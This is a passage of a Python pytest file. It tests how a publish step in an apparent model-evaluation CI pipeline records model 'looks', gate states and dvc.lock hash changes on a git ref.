    publish.main(reviewed.run)
    ((state, why),) = reviewed.gates
    assert (state, "another model" in why) == ("error", True)
    assert not git(at_main, "for-each-ref", "refs/remotes/origin/looks")


@pytest.mark.parametrize("which", ["a new model", "the lock of main", "nothing to see"])
def test_a_look_that_the_artifact_leaves_out_is_counted_and_passes_nothing(at_main, reviewed, which):
    """Main knows by itself that another model was judged, or that figures differ where the lock is main's."""
    hidden, files = {**looked(reviewed), "look": None}, {}
    if which == "a new model":
        model = looked(reviewed)["look"]["model"]
        files = {"dvc.lock": reviewed.change.repo.text("dvc.lock").replace(model, "f" * 32)}
        hidden = {}  # not even figures: it passes, and its lock names another model than main's
    if which == "nothing to see":
        hidden["metrics"], hidden["verdict"] = (
            [PRIMARY | {"gain": 0.0, "verdict": "equivalent"}],
            "equivalent",
        )
    reviewed.bring(files, **hidden)
    publish.main(reviewed.run)
    ((state, why),) = reviewed.gates
    assert (state, "leaves out its look" in why) == (
        ("success", False) if "see" in which else ("error", True)
    )
    assert bool(git(at_main, "for-each-ref", "refs/remotes/origin/looks")) is ("see" not in which)


@pytest.mark.parametrize("how", ["closed", "moved on", "cancelled", "its repository is gone"])
def test_a_report_that_was_seen_is_a_look_though_nothing_is_published(at_main, reviewed, how):
    """The run's page shows it before publish runs: whoever pushes or closes by then has looked as well."""
    reviewed.bring(**looked(reviewed))
    if how == "closed":
        next(p for p in reviewed.github.pulls if p["number"] == reviewed.number)["state"] = "closed"
    elif how == "cancelled":
        reviewed.github.runs[reviewed.run]["conclusion"] = "cancelled"
    elif how == "its repository is gone":
        reviewed.github.runs[reviewed.run]["head_repository"] = None
    else:
        git(reviewed.change.repo.path, "commit", "--amend", "--quiet", "--allow-empty", "-m", "Another")
        git(
            reviewed.change.repo.path,
            "push",
            "--force",
            "--quiet",
            "origin",
            f"HEAD:{reviewed.change.branch}",
        )
        reviewed.github.sync()
    for _ in range(2):
        assert publish.main(reviewed.run) == 0
    assert not any(state == "success" for state, _ in reviewed.gates)
    assert git(at_main, "log", "--format=%B", "refs/remotes/origin/looks").count("Model: ") == 1


def test_scores_that_moved_around_the_same_model_are_another_look(at_main, reviewed):
    lock = yaml.safe_load(reviewed.change.repo.text("dvc.lock"))
    (scores,) = (out["md5"] for out in lock["stages"]["evaluate"]["outs"] if out["path"].endswith(".parquet"))
    for other in (scores, "f" * 32):
        lock = reviewed.change.repo.text("dvc.lock").replace(scores, other)
        reviewed.bring({"dvc.lock": lock}, **looked(reviewed))
        publish.main(reviewed.run)
    assert git(at_main, "rev-list", "--count", "refs/remotes/origin/looks") == "2"
